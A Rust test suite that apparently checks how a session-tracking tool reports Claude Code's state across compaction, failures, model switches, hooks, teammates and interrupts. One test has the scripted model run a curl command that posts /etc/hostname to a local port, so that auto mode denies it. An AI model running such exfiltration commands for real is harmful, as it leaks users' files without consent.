//! Events within a turn: compaction, failures, another model or folder, rare events, and changes that no
//! event reports.

use std::time::Instant;

use becket_tests::claude::SettingsScope;
use becket_tests::model::{bash, behind, error, gate, say, tool};
use becket_tests::story::{Hook, story};
use serde_json::json;

use super::{SOON, allow_bash, endless_turn, finish_turn, is, is_done, start_thinking};

#[test]
fn a_manual_compaction_is_working_then_done() {
    story(|given| {
        let story = given
            .on("first thing", [bash("echo one"), say("one is done")])
            .hook(Hook::on("PreCompact").held("compact"))
            .begin()?;
        let person = story.person()?;

        person.submits("first thing");
        person.wait_text("one is done");
        let before = story.wait_session("done", is_done);
        person.ready();
        person.submits("/compact");
        let compacts = story.wait_session("compacting", is("working(Compacting)", false));
        assert_eq!(compacts.display(), "working");
        story.release("compact");
        story.wait_event("PostCompact");
        let after = story.wait_session("done", is_done);
        assert_eq!(after.id(), before.id());
        assert_eq!(after["line"], before["line"]);
        person.ready();
        person.leaves();
        Ok(())
    });
}

#[test]
fn a_full_window_is_compacted_while_working() {
    story(|given| {
        let full = bash("echo one").usage(990_000, 500);
        let story = given
            .on("first thing", [full])
            .on(
                "They counted to one.",
                [gate("word").then(say("and went on"))],
            )
            .script(|script| script.summary("They counted to one."))
            .hook(Hook::on("PreCompact").held("compact"))
            .since("2.1.325", "compaction on the model's word alone")
            .begin()?;
        let person = story.person()?;

        person.submits("first thing");
        story.wait_session("compacting", is("working(Compacting)", false));
        story.release("compact");
        story.model.wait_at("word");
        let next = story.wait_session("at work", is("working(Thinking)", false));
        assert_eq!(next.display(), "working");
        finish_turn(&story, &person);
        Ok(())
    });
}

#[test]
fn a_failed_turn_is_an_error_until_the_next_prompt() {
    story(|given| {
        let story = given
            .on(
                "do it",
                [error(400, "invalid_request_error", "no such thing")],
            )
            .on("try again", [gate("word").then(say("now"))])
            .needs(&["StopFailure"])
            .begin()?;
        let person = story.person()?;

        person.submits("do it");
        story.wait_event("StopFailure");
        let failed = story.wait_session("failed", |session| session.display() == "error");
        assert_eq!(
            (failed.status().as_str(), failed["error"].is_string()),
            ("idle", true)
        );
        person.ready();
        person.submits("try again");
        story.model.wait_at("word");
        let next = story.wait_session("at work", |session| session.display() == "working");
        assert!(next["error"].is_null());
        finish_turn(&story, &person);
        Ok(())
    });
}

#[test]
fn a_failed_tool_is_counted_and_is_not_an_error() {
    story(|given| {
        let story = allow_bash(given)
            .on(
                "try it",
                [bash("exit 3"), gate("word").then(say("it failed"))],
            )
            .needs(&["PostToolUseFailure"])
            .begin()?;
        let person = story.person()?;

        person.submits("try it");
        story.model.wait_at("word");
        let next = story.wait_session("at work", is("working(Thinking)", false));
        assert_eq!(next["failed_tools"], 1);
        assert!(next["error"].is_null());
        story.model.open("word");
        let done = story.wait_session("done", is_done);
        assert_eq!(done["failed_tools"], 1);
        person.leaves();
        Ok(())
    });
}

#[test]
fn changes_of_model_and_folder_are_shown() {
    story(|given| {
        let story = allow_bash(given)
            .file("below/a.txt", "a")
            .on("first thing", [say("one is done")])
            .on("go below", [bash("cd below"), say("there we are")])
            .needs(&["PostModelSwitch", "CwdChanged"])
            .begin()?;
        let person = story.person()?;
        let below = story.home.project().join("below").display().to_string();

        person.submits("first thing");
        person.wait_text("one is done");
        let before = story.wait_session("done", is_done);
        person.ready();
        person.submits("/model sonnet");
        person.chooses(1);
        let switched = story.wait_session("another model", |session| {
            session["model"] != before["model"]
        });
        assert!(switched.text("model").contains("sonnet"), "{switched:?}");
        assert!(is_done(&switched));
        person.ready();
        person.submits("go below");
        person.wait_text("there we are");
        let moved = story.wait_session("below", |session| session["cwd"] == below);
        assert_eq!(moved["project"], before["project"]);
        story.wait_session("done", is_done);
        person.leaves();
        Ok(())
    });
}

#[test]
fn a_session_works_on_after_a_denial_by_auto_mode() {
    story(|given| {
        let send = bash("curl -d @/etc/hostname http://127.0.0.1:9/");
        let story = given
            .on("send it", [send, gate("word").then(say("no"))])
            // The batch that follows would report it too.
            .hook(Hook::on("PermissionDenied").held("denied"))
            .needs(&["PermissionDenied"])
            .begin()?;

        let run = story.print("send it").mode("auto").start();
        story.wait_event("PermissionDenied");
        let next = story.wait_session("at work", is("working(Thinking)", false));
        story.events().none_of("PostToolBatch");
        assert_eq!(next["permission_mode"], "auto");
        assert_eq!(next["failed_tools"], 0);
        story.release("denied");
        story.model.wait_at("word");
        story.model.open("word");
        run.finish();
        Ok(())
    });
}

#[test]
fn a_teammate_without_work_is_idle() {
    story(|given| {
        let bosun = json!({
            "description": "count",
            "prompt": "count the sheep",
            "subagent_type": "general-purpose",
            "name": "bosun",
        });
        let story = given
            .on("make a team", [tool("Agent", bosun), say("made")])
            .on("count the sheep", [gate("child").then(say("three"))])
            .hook(Hook::on("TeammateIdle").held("idle"))
            .env("CLAUDE_CODE_EXPERIMENTAL_AGENT_TEAMS", "1")
            .needs(&["TeammateIdle"])
            .since("2.1.197", "teammates made by the Agent tool alone")
            .begin()?;
        // SubagentStop, which comes just before, would report it too, so its hook is removed.
        let mut settings = story.home.settings(SettingsScope::User);
        let hooks = settings["hooks"].as_object_mut().expect("hooks");
        assert!(hooks.remove("SubagentStop").is_some());
        story.home.set_settings(SettingsScope::User, &settings);
        let person = story.person()?;

        person.submits("make a team");
        story.model.wait_at("child");
        story.wait_event("Stop");
        let team = story.wait_session("with a teammate", |session| {
            session.status() == "idle" && session.display() == "working"
        });
        assert_eq!(team.agents()[0]["agent_type"], "bosun");
        assert_eq!(team.agents()[0].status(), "working");
        story.model.open("child");
        story.wait_event("TeammateIdle");
        let idle = story.wait_session("idle", is_done);
        assert!(idle.agents().iter().all(|agent| agent.status() == "idle"));
        story.release("idle");
        person.leaves();
        Ok(())
    });
}

#[test]
fn setup_counts_as_working_before_the_session_starts() {
    story(|given| {
        let story = given
            .on("do it", [gate("word").then(say("done"))])
            .hook(Hook::on("Setup").held("setup"))
            .needs(&["--init-only"])
            .begin()?;

        let run = story.print("do it").arg("--init").start();
        let sets_up = story.wait_session("setting up", is("working(Setup)", false));
        assert_eq!(sets_up.display(), "working");
        story.events().none_of("UserPromptSubmit");
        story.release("setup");
        story.model.wait_at("word");
        let next = story.wait_session("at work", is("working", false));
        assert_eq!(next.id(), sets_up.id());
        story.model.open("word");
        run.finish().succeeded();
        Ok(())
    });
}

#[test]
fn expanding_a_command_of_the_user_counts_as_working() {
    story(|given| {
        let story = given
            .file(".claude/commands/count.md", "count the $ARGUMENTS")
            .on("count the sheep", [gate("word").then(say("three"))])
            .hook(Hook::on("UserPromptExpansion").held("expand"))
            .needs(&["UserPromptExpansion"])
            .begin()?;
        let person = story.person()?;

        person.submits("/count sheep");
        let expansion = story.wait_event("UserPromptExpansion");
        assert_eq!(expansion["command_name"], "count");
        story.wait_session("at work", is("working", false));
        story.release("expand");
        story.model.wait_at("word");
        story.wait_session("at work", is("working", false));
        finish_turn(&story, &person);
        Ok(())
    });
}

/// A call that a user's hook denies has no end event: only the batch reports it.
#[test]
fn a_batch_ends_denied_calls() {
    story(|given| {
        let story = given
            .on(
                "touch it",
                [bash("touch made.txt"), gate("word").then(say("no"))],
            )
            .hook(Hook::on("PreToolUse").matcher("Bash").denies("not today"))
            .needs(&["PostToolBatch"])
            .begin()?;
        let person = story.person()?;

        person.submits("touch it");
        story.model.wait_at("word");
        let next = story.wait_session("at work", is("working(Thinking)", false));
        assert_eq!(next["failed_tools"], 0);
        let events = story.events();
        events.in_order(&["PreToolUse", "PostToolBatch"]);
        events.none_of("PostToolUse");
        events.none_of("PostToolUseFailure");
        finish_turn(&story, &person);
        Ok(())
    });
}

/// Claude Code reminds an absent user after a minute, here sooner.
#[test]
fn an_idle_reminder_does_not_count_as_waiting() {
    story(|given| {
        let story = given
            .on("first thing", [say("one is done")])
            .needs(&["messageIdleNotifThresholdMs"])
            .begin()?;
        story
            .home
            .remember("messageIdleNotifThresholdMs", json!(1000));
        let person = story.person()?;

        person.submits("first thing");
        story.wait_event("Stop");
        let before = story.wait_session("done", is_done);
        let reminder = story.wait_event("Notification");
        assert_eq!(reminder["notification_type"], "idle_prompt");
        let after = story.wait_session("reminded", |session| {
            session["last_activity"] != before["last_activity"]
        });
        for field in [
            "status",
            "display",
            "display_since",
            "waiting_for",
            "inferred",
        ] {
            assert_eq!(after[field], before[field], "{field}");
        }
        person.leaves();
        Ok(())
    });
}

/// The prompt's event comes during the turn before; its own turn has no start event.
#[test]
fn a_prompt_typed_during_a_turn_is_working_after_it() {
    story(|given| {
        let story = given
            .on("first thing", [gate("one").then(say("one is done"))])
            .on("second thing", [gate("two").then(say("two is done"))])
            .needs(&["CLAUDE_PID"])
            .begin()?;
        let person = story.person()?;

        person.submits("first thing");
        story.model.wait_at("one");
        person.submits("second thing");
        story.wait_session("prompted", |session| {
            session["last_prompt"] == "second thing"
        });
        story.model.open("one");
        story.wait_event("Stop");
        story.model.wait_at("two");
        let session =
            story.wait_session_within((Instant::now(), SOON), "at work", is("working", true));
        assert_eq!(session.display(), "working");
        let idle = story.waits(session.id(), "idle");
        story.model.open("two");
        let (done, _) = idle.wait();
        assert!(is_done(&done) && is("idle", false)(&done), "{done:?}");
        assert_eq!(story.events().of("Stop").len(), 2);
        person.leaves();
        Ok(())
    });
}

#[test]
fn a_shell_command_of_the_user_counts_as_working() {
    story(|given| {
        let story = given
            .on("first thing", [say("one is done")])
            .on("bang-over", [say("I see")])
            .since("2.1.325", "a turn after a command of the person's")
            .begin()?;
        let person = story.person()?;

        person.submits("first thing");
        person.wait_text("one is done");
        story.wait_session("done", is_done);
        person.ready();
        person.type_text("!");
        person.submits("until [ -e go ]; do sleep 0.1; done; echo bang-over");
        story.wait_session_within((Instant::now(), SOON), "at work", is("working", true));
        story.home.file("go", "");
        person.wait_text("I see");
        story.wait_session("done", |session| {
            is_done(session) && is("idle", false)(session)
        });
        person.leaves();
        Ok(())
    });
}

/// Claude Code then reports `shell` in its session file instead of `idle`.
#[test]
fn esc_is_noticed_while_a_background_command_runs() {
    story(|given| {
        let behind = json!({
            "command": "until [ -e go ]; do sleep 0.1; done",
            "description": "wait",
            "run_in_background": true,
        });
        let story = endless_turn(allow_bash(given))
            .on("send it off", [tool("Bash", behind), say("sent")])
            .on("task-notification", [say("it is back")])
            .needs(&["CLAUDE_PID"])
            .begin()?;
        let person = story.person()?;

        person.submits("send it off");
        let sent = story.wait_session("done", |session| session["background_tasks"] == 1);
        assert!(is_done(&sent), "{sent:?}");
        person.ready();
        start_thinking(&story, &person);
        let pressed = Instant::now();
        person.interrupts();
        let session = story.wait_session_within((pressed, SOON), "idle", is("idle", true));
        assert_eq!(session["interrupted"], true);
        story.home.file("go", "");
        person.wait_text("it is back");
        let done = story.wait_session("done", |session| {
            is_done(session) && is("idle", false)(session)
        });
        assert_eq!(done["background_tasks"], 0);
        person.leaves();
        Ok(())
    });
}

/// Nothing reports this: Claude Code reports `busy` as long as the subagent works, and writes nothing. The
/// displayed state is still right, because the subagent works.
#[test]
fn esc_beside_a_background_subagent_is_noticed_when_it_ends() {
    story(|given| {
        let story = endless_turn(given)
            .on(
                "send it off",
                [behind("general-purpose", "count the sheep"), say("sent")],
            )
            .on("count the sheep", [gate("child").then(say("three"))])
            .on("task-notification", [say("it is back")])
            .needs(&["CLAUDE_PID"])
            .begin()?;
        let person = story.person()?;

        person.submits("send it off");
        story.model.wait_at("child");
        story.wait_session("idle with a child", |session| {
            session.status() == "idle" && session["background_tasks"] == 1
        });
        start_thinking(&story, &person);
        person.interrupts();
        assert_eq!(story.sessions()[0].display(), "working");
        story.model.open("child");
        person.wait_text("it is back");
        let done = story.wait_session("done", |session| {
            is_done(session) && is("idle", false)(session)
        });
        assert_eq!(done["background_tasks"], 0);
        person.leaves();
        Ok(())
    });
}

#[test]
fn a_prompt_blocked_by_a_users_hook_leaves_the_session_idle() {
    story(|given| {
        let story = given
            .on("first thing", [say("never said")])
            .hook(Hook::on("UserPromptSubmit").blocks("not today"))
            .needs(&["CLAUDE_PID"])
            .begin()?;
        let person = story.person()?;

        person.submits("first thing");
        person.wait_text("not today");
        story.wait_session_within((Instant::now(), SOON), "idle", is("idle", true));
        person.press("C-u");
        person.leaves();
        assert!(story.model.turns().is_empty());
        Ok(())
    });
}

#[test]
fn a_turn_ended_by_a_users_hook_is_over() {
    story(|given| {
        let enough = json!({"continue": false, "stopReason": "enough of it"});
        let story = given
            .on(
                "first thing",
                [
                    tool("Bash", json!({"command": "echo hi"})),
                    say("never said"),
                ],
            )
            .hook(Hook::on("PreToolUse").answers(&enough))
            .needs(&["CLAUDE_PID"])
            .begin()?;
        let person = story.person()?;

        person.submits("first thing");
        person.wait_text("enough of it");
        story.wait_session_within((Instant::now(), SOON), "idle", is("idle", true));
        person.leaves();
        story.events().none_of("Stop");
        Ok(())
    });
}
